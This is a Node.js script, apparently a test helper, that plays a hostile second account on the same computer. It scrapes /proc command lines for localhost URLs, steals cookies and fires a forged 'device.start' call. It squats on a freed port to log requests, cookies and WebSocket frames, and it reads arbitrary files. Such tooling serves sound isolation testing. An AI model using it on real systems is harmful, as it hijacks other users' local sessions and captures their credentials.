/**
 * What another account of the same computer can do: read command lines and files, ask any port, and listen at one
 * that is free. Needs nothing but Node; each thing that it learns is one line of JSON. Run as `node … WHAT ARGUMENT`.
 */
import { createHash, randomBytes } from "node:crypto";
import { readdirSync, readFileSync } from "node:fs";
import { createServer } from "node:http";

const [what, argument] = process.argv.slice(-2);
const learn = (line) => console.log(JSON.stringify(line));

/** The port's owner asked by every way that was ever open to a page. */
async function askAt(address, port) {
  const opened = await fetch(address).catch(() => null);
  const cookie = (opened?.headers.get("set-cookie") ?? "").split(";")[0];
  if (cookie) learn({ cookie });
  const origin = `http://127.0.0.1:${port}`;
  const call = await fetch(`${origin}/call`, {
    method: "POST",
    headers: { "Content-Type": "application/json", Origin: origin, Cookie: cookie },
    body: '{"name":"device.start","args":{}}',
  }).catch(() => null);
  if (call?.ok) learn({ answered: await call.text() });
}

function commandLines() {
  return readdirSync("/proc").flatMap((name) => {
    if (!/^\d+$/.test(name) || Number(name) === process.pid) return [];
    try {
      return [readFileSync(`/proc/${name}/cmdline`, "utf8").split("\0")];
    } catch {
      return [];
    }
  });
}

/** Looks for addresses of the port in every command line, and is there first. */
function watchCommands(port) {
  const seen = new Set();
  setInterval(() => {
    for (const command of commandLines()) {
      for (const [address] of command.join(" ").matchAll(new RegExp(`http://127\\.0\\.0\\.1:${port}/\\S*`, "g"))) {
        if (seen.has(address)) continue;
        seen.add(address);
        void askAt(address, port).then(() => learn({ address, command }));
      }
    }
  }, 5);
  learn({ ready: true });
}

/** The next frame of a client, which is masked; null while it is not whole. */
function takeFrame(buffer) {
  if (buffer.length < 2) return null;
  const short = buffer[1] & 0x7f;
  const [at, length] =
    short === 126
      ? [4, buffer.length < 4 ? 0 : buffer.readUInt16BE(2)]
      : short === 127
        ? [10, buffer.length < 10 ? 0 : Number(buffer.readBigUInt64BE(2))]
        : [2, short];
  if (buffer.length < at + 4 + length) return null;
  const mask = buffer.subarray(at, at + 4);
  const text = Buffer.from(
    buffer.subarray(at + 4, at + 4 + length).map((byte, index) => byte ^ mask[index % 4]),
  ).toString();
  return { isText: (buffer[0] & 0x0f) === 1, text, rest: buffer.subarray(at + 4 + length) };
}

const frame = (text) => Buffer.concat([Buffer.from([0x81, text.length]), Buffer.from(text)]);

/** Listens where the desk did, says yes to all, and notes all that it is told. */
function squat(port) {
  const server = createServer((request, response) => {
    let body = "";
    request.on("data", (chunk) => (body += chunk));
    request.on("end", () => {
      learn({ request: `${request.method} ${request.url}`, cookie: request.headers.cookie ?? null, body });
      response.writeHead(request.url?.startsWith("/alive") ? 204 : 200, { "Content-Type": "text/html" }).end();
    });
  });
  server.on("upgrade", (request, socket) => {
    const accept = createHash("sha1")
      .update(`${request.headers["sec-websocket-key"]}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`)
      .digest("base64");
    socket.write(
      `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`,
    );
    learn({ request: `GET ${request.url}`, cookie: request.headers.cookie ?? null, body: "" });
    socket.write(frame(JSON.stringify({ nonce: randomBytes(32).toString("hex") }).slice(0, 120)));
    let heard = Buffer.alloc(0);
    socket.on("error", () => undefined);
    socket.on("data", (chunk) => {
      heard = Buffer.concat([heard, chunk]);
      for (let next = takeFrame(heard); next !== null; next = takeFrame(heard)) {
        heard = next.rest;
        if (!next.isText) continue;
        learn({ frame: next.text });
        socket.write(frame(JSON.stringify({ proof: randomBytes(32).toString("hex") }).slice(0, 120)));
      }
    });
  });
  server.listen(port, "127.0.0.1", () => learn({ ready: true }));
}

function read(path) {
  try {
    learn({ text: readFileSync(path, "utf8") });
  } catch ({ code }) {
    learn({ refused: code });
  }
}

if (what === "watch-commands") watchCommands(Number(argument));
else if (what === "squat") squat(Number(argument));
else read(argument);
